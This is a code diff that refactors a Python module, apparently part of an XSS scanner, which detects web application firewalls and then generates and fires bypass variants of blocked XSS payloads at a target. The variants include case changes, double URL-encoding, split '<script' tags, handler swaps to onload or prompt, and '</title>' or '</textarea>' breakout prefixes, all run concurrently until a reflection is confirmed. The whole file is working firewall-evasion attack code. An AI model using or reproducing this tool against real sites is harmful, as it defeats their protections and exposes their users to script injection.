@@ -2,18 +2,41 @@
 
 from __future__ import annotations
 
+import functools
+import itertools
 import random
+from collections import deque
+from concurrent.futures import FIRST_COMPLETED, Future, ThreadPoolExecutor, wait
 from html import escape
 from pathlib import Path
-from typing import Callable, Optional
-from urllib.parse import quote
+from typing import Callable, Iterator, Optional, Sequence
+from urllib.parse import quote_from_bytes
 
+_PERCENT_TABLE = str.maketrans({"<": "%3c", ">": "%3e"})
+_ENTITY_TABLE = str.maketrans({"<": "&lt;", ">": "&gt;"})
 
-def _load_bypass_library() -> list[str]:
-    """Load built-in bypass payload library from data file."""
+_MAX_VARIANT_LENGTH = 2500
+
+_HANDLER_RULES = (
+    ("onerror", "onload"),
+    ("onerror", "onmouseover"),
+    ("alert", "confirm"),
+    ("alert", "prompt"),
+)
+_HANDLER_SOURCES = ("onerror", "alert")
+
+# HTTP statuses that signal blocking; the engine shares this set.
+BLOCKED_STATUS_CODES = frozenset({401, 403, 406, 409, 418, 429, 451, 500, 503})
+# Bit N is set when status N is in BLOCKED_STATUS_CODES; membership is a shift and a mask.
+_BLOCKED_STATUS_MASK = sum(1 << code for code in BLOCKED_STATUS_CODES)
+
+
+@functools.lru_cache(maxsize=1)
+def _load_bypass_library() -> tuple[str, ...]:
+    """Load built-in bypass payload library from data file (read once per process)."""
     data_file = Path(__file__).resolve().parent.parent / "data" / "bypass_payloads.txt"
     if not data_file.exists():
-        return []
+        return ()
 
     payloads: list[str] = []
     for raw in data_file.read_text(encoding="utf-8", errors="ignore").splitlines():
@@ -21,27 +44,46 @@ def _load_bypass_library() -> list[str]:
         if not line or line.startswith("#"):
             continue
         payloads.append(line)
-    return payloads
+    return tuple(payloads)
+
+
+@functools.lru_cache(maxsize=1)
+def _bypass_library_set() -> frozenset[str]:
+    """Bypass library entries that pass the variant length filter, built once."""
+    return frozenset(
+        item for item in _load_bypass_library() if item and len(item) < _MAX_VARIANT_LENGTH
+    )
+
+
+def _lazy_shuffle(items: Sequence[str]) -> Iterator[str]:
+    """Yield items in random order, shuffling only as far as the caller consumes."""
+    pool = list(items)
+    for index in range(len(pool)):
+        swap = random.randrange(index, len(pool))
+        pool[index], pool[swap] = pool[swap], pool[index]
+        yield pool[index]
 
 
 class WAFDetector:
     """Detect WAF/AV style blocking and generate broad bypass strategies."""
 
-    SECURITY_HEADERS = {
-        "x-sucuri-id",
-        "x-sucuri-cache",
-        "x-firewall",
-        "cf-ray",
-        "x-cdn",
-        "x-waf",
-        "x-akamai",
-        "x-ddos-protection",
-        "x-imperva-id",
-        "x-mod-security",
-        "server",
-    }
-
-    SECURITY_BODY_PATTERNS = [
+    SECURITY_HEADERS = frozenset(
+        {
+            "x-sucuri-id",
+            "x-sucuri-cache",
+            "x-firewall",
+            "cf-ray",
+            "x-cdn",
+            "x-waf",
+            "x-akamai",
+            "x-ddos-protection",
+            "x-imperva-id",
+            "x-mod-security",
+            "server",
+        }
+    )
+
+    SECURITY_BODY_PATTERNS = (
         "access denied",
         "request blocked",
         "forbidden",
@@ -58,113 +100,120 @@ class WAFDetector:
         "mod_security",
         "cloudflare",
         "imperva",
-    ]
+    )
 
     def __init__(self, engine) -> None:
         self.engine = engine
+        self._variant_cache: dict[str, tuple[str, ...]] = {}
 
     def detect(self) -> bool:
         blocked_signals = 0
         security_header_hits = 0
         total = max(len(self.engine.response_log), 1)
+        threshold = max(3, int(total * 0.2))
+        # Block pages repeat verbatim, so each distinct body is scanned once.
+        body_verdicts: dict[bytes, bool] = {}
+        security_headers = self.SECURITY_HEADERS
+        body_patterns = self.SECURITY_BODY_PATTERNS
+        blocked_mask = _BLOCKED_STATUS_MASK
 
         for entry in self.engine.response_log:
             status_code = entry.get("status_code", 0)
-            headers = {str(k).lower(): str(v).lower() for k, v in entry.get("headers", {}).items()}
-            body = str(entry.get("body", "")).lower()
+            header_keys = (str(key).lower() for key in entry.get("headers", {}))
 
-            if status_code in {401, 403, 406, 409, 418, 429, 451, 500, 503}:
-                blocked_signals += 1
+            blocked_signals += (blocked_mask >> status_code) & 1
 
-            if any(key in headers for key in self.SECURITY_HEADERS):
+            if not security_headers.isdisjoint(header_keys):
                 security_header_hits += 1
 
-            if any(pattern in body for pattern in self.SECURITY_BODY_PATTERNS):
-                blocked_signals += 1
-
-        return blocked_signals >= max(3, int(total * 0.2)) or security_header_hits > 0
-
-    def _case_mutation(self, payload: str) -> list[str]:
-        variants = [payload]
-        if "script" in payload.lower():
-            variants.extend(
-                [
-                    payload.replace("script", "Script"),
-                    payload.replace("script", "sCrIpT"),
-                    payload.replace("script", "SCRipt"),
-                ]
-            )
-        return variants
-
-    def _encoding_mutation(self, payload: str) -> list[str]:
-        return [
-            quote(payload, safe=""),
-            quote(quote(payload, safe=""), safe=""),
-            escape(payload),
-            payload.replace("<", "%3c").replace(">", "%3e"),
-            payload.replace("<", "&lt;").replace(">", "&gt;"),
-        ]
-
-    def _fragmentation_mutation(self, payload: str) -> list[str]:
-        return [
-            payload.replace("<script", "<scr<script>ipt"),
-            payload.replace("alert", "al" + "ert"),
-            payload.replace("onerror", "oneonerrorrror"),
-            payload + "<!--waf-bypass-->",
-            payload + "/*x*/",
-            f"{payload}aaa",
-        ]
-
-    def _handler_mutation(self, payload: str) -> list[str]:
-        replaced = []
-        for source, target in [
-            ("onerror", "onload"),
-            ("onerror", "onmouseover"),
-            ("alert", "confirm"),
-            ("alert", "prompt"),
-        ]:
+            body = entry.get("body")
+            if body:
+                body_hash = entry.get("body_hash")
+                matched = body_verdicts.get(body_hash) if body_hash is not None else None
+                if matched is None:
+                    lowered = str(body).lower()
+                    matched = any(pattern in lowered for pattern in body_patterns)
+                    if body_hash is not None:
+                        body_verdicts[body_hash] = matched
+                if matched:
+                    blocked_signals += 1
+
+            # Either condition is final once reached; stop scanning the rest of the log.
+            if security_header_hits or blocked_signals >= threshold:
+                return True
+
+        return False
+
+    def _case_mutation(self, payload: str) -> Iterator[str]:
+        yield payload
+        # The replacements only touch lowercase "script"; other casings would yield duplicates.
+        if "script" in payload:
+            yield payload.replace("script", "Script")
+            yield payload.replace("script", "sCrIpT")
+            yield payload.replace("script", "SCRipt")
+
+    def _encoding_mutation(self, payload: str) -> Iterator[str]:
+        quoted = quote_from_bytes(payload.encode("utf-8"), safe=b"")
+        yield quoted
+        yield quote_from_bytes(quoted.encode("ascii"), safe=b"")
+        yield escape(payload)
+        yield payload.translate(_PERCENT_TABLE)
+        yield payload.translate(_ENTITY_TABLE)
+
+    def _fragmentation_mutation(self, payload: str) -> Iterator[str]:
+        # Without the token a rewrite just returns the payload, which is already a variant.
+        if "<script" in payload:
+            yield payload.replace("<script", "<scr<script>ipt")
+        if "onerror" in payload:
+            yield payload.replace("onerror", "oneonerrorrror")
+        yield payload + "<!--waf-bypass-->"
+        yield payload + "/*x*/"
+        yield f"{payload}aaa"
+
+    def _handler_mutation(self, payload: str) -> Iterator[str]:
+        if not any(source in payload for source in _HANDLER_SOURCES):
+            return
+        for source, target in _HANDLER_RULES:
             if source in payload:
-                replaced.append(payload.replace(source, target))
-        return replaced
-
-    def _prefix_suffix_mutation(self, payload: str) -> list[str]:
-        return [
-            f"\"{payload}",
-            f"'{payload}",
-            f"\">{payload}",
-            f"-->{payload}",
-            f"</title>{payload}",
-            f"</textarea>{payload}",
-            f"</style>{payload}",
-        ]
-
-    def generate_bypass_payloads(self, original_payload: str) -> list[str]:
-        """Create systematic bypass variants from original payload."""
-        variants: set[str] = set()
-
-        mutation_groups = [
+                yield payload.replace(source, target)
+
+    def _prefix_suffix_mutation(self, payload: str) -> Iterator[str]:
+        yield f"\"{payload}"
+        yield f"'{payload}"
+        yield f"\">{payload}"
+        yield f"-->{payload}"
+        yield f"</title>{payload}"
+        yield f"</textarea>{payload}"
+        yield f"</style>{payload}"
+
+    def _compute_variants(self, original_payload: str) -> tuple[str, ...]:
+        """Return the deduplicated bypass variants for a payload, memoized per detector."""
+        cached = self._variant_cache.get(original_payload)
+        if cached is not None:
+            return cached
+
+        mutations = itertools.chain(
             self._case_mutation(original_payload),
             self._encoding_mutation(original_payload),
             self._fragmentation_mutation(original_payload),
             self._handler_mutation(original_payload),
             self._prefix_suffix_mutation(original_payload),
-            _load_bypass_library(),
-        ]
+        )
+        variants = {item for item in mutations if item and len(item) < _MAX_VARIANT_LENGTH}
+        variants |= _bypass_library_set()
 
-        for group in mutation_groups:
-            for item in group:
-                if item and len(item) < 2500:
-                    variants.add(item)
+        self._variant_cache[original_payload] = tuple(variants)
+        return self._variant_cache[original_payload]
 
-        variant_list = list(variants)
-        random.shuffle(variant_list)
-        return variant_list
+    def generate_bypass_payloads(self, original_payload: str) -> list[str]:
+        """Create systematic bypass variants from original payload."""
+        return list(_lazy_shuffle(self._compute_variants(original_payload)))
 
     def estimate_total_attempts(self) -> int:
         """Estimate bypass attempts for progress visualization."""
         total = 0
         for payload in list(self.engine.blocked_payloads):
-            total += len(self.generate_bypass_payloads(payload))
+            total += len(self._compute_variants(payload))
         return max(total, 1)
 
     def run_bypass(
@@ -179,39 +228,97 @@ class WAFDetector:
         total_variants = 0
 
         blocked_list = list(self.engine.blocked_payloads)
-        for index, payload in enumerate(blocked_list, start=1):
-            candidates = self.generate_bypass_payloads(payload)
-            total_variants += len(candidates)
-            if status_cb:
-                status_cb(
-                    f"[bypass] base {index}/{len(blocked_list)} | "
-                    f"variants={len(candidates)} | payload={payload[:70]}"
-                )
-
-            for attempt, candidate in enumerate(candidates, start=1):
-                total_attempts += 1
-                if status_cb and attempt % 10 == 0:
+        base_total = len(blocked_list)
+        workers = max(self.engine.threads, 1)
+        with ThreadPoolExecutor(max_workers=workers) as executor:
+            for index, payload in enumerate(blocked_list, start=1):
+                variants = self._compute_variants(payload)
+                # Most bases confirm (or not) early; shuffle only the variants actually tried.
+                candidates = _lazy_shuffle(variants)
+                variant_total = len(variants)
+                total_variants += variant_total
+                if status_cb is not None:
                     status_cb(
-                        f"[bypass] running variant {attempt}/{len(candidates)} "
-                        f"for base {index}/{len(blocked_list)}"
+                        f"[bypass] base {index}/{base_total} | "
+                        f"variants={variant_total} | payload={payload[:70]}"
                     )
 
-                result = self.engine.test_payload(candidate, bypass_mode=True)
-                if progress_cb:
-                    progress_cb()
+                # Probe up to `workers` variants of this base at once, but confirm reflections
+                # one at a time: a confirmation records and prints its result, so only the
+                # first winner may reach the browser. Queued siblings are cancelled on a win.
+                attempt = 0
+                confirmed: Optional[dict] = None
+                in_flight: dict[Future, str] = {}
+                reflected: deque[tuple[str, str]] = deque()
+                confirming: Optional[Future] = None
+                while True:
+                    while confirmed is None and len(in_flight) < workers:
+                        candidate = next(candidates, None)
+                        if candidate is None:
+                            break
+                        attempt += 1
+                        total_attempts += 1
+                        if status_cb is not None and attempt % 10 == 0:
+                            status_cb(
+                                f"[bypass] running variant {attempt}/{variant_total} "
+                                f"for base {index}/{base_total}"
+                            )
+                        in_flight[
+                            executor.submit(self.engine.probe, candidate, bypass_mode=True)
+                        ] = candidate
+
+                    if confirmed is None and confirming is None and reflected:
+                        confirming = executor.submit(
+                            self.engine.confirm_and_record, *reflected.popleft()
+                        )
 
-                if result and result.get("confirmed"):
+                    waiting = set(in_flight)
+                    if confirming is not None:
+                        waiting.add(confirming)
+                    if not waiting:
+                        break
+
+                    done, _ = wait(waiting, return_when=FIRST_COMPLETED)
+                    for future in done:
+                        if future is confirming:
+                            confirming = None
+                            try:
+                                result = future.result()
+                            except Exception:
+                                continue
+                            if result and result.get("confirmed"):
+                                confirmed = result
+                            continue
+
+                        candidate = in_flight.pop(future)
+                        if future.cancelled():
+                            attempt -= 1
+                            total_attempts -= 1
+                            continue
+                        if progress_cb:
+                            progress_cb()
+                        try:
+                            target = future.result()
+                        except Exception:
+                            continue
+                        if target is not None:
+                            reflected.append((candidate, target))
+
+                    if confirmed is not None:
+                        for pending in in_flight:
+                            pending.cancel()
+
+                if confirmed is not None:
                     confirmed_count += 1
-                    bypass_confirmations.append(result)
-                    if status_cb:
+                    bypass_confirmations.append(confirmed)
+                    if status_cb is not None:
                         status_cb(
-                            f"[bypass] confirmed for base {index}/{len(blocked_list)} "
+                            f"[bypass] confirmed for base {index}/{base_total} "
                             f"after {attempt} variant(s)"
                         )
-                    break
 
         stats = {
-            "blocked_payloads": len(blocked_list),
+            "blocked_payloads": base_total,
             "total_variants_generated": total_variants,
             "total_attempts_run": total_attempts,
             "confirmed": confirmed_count,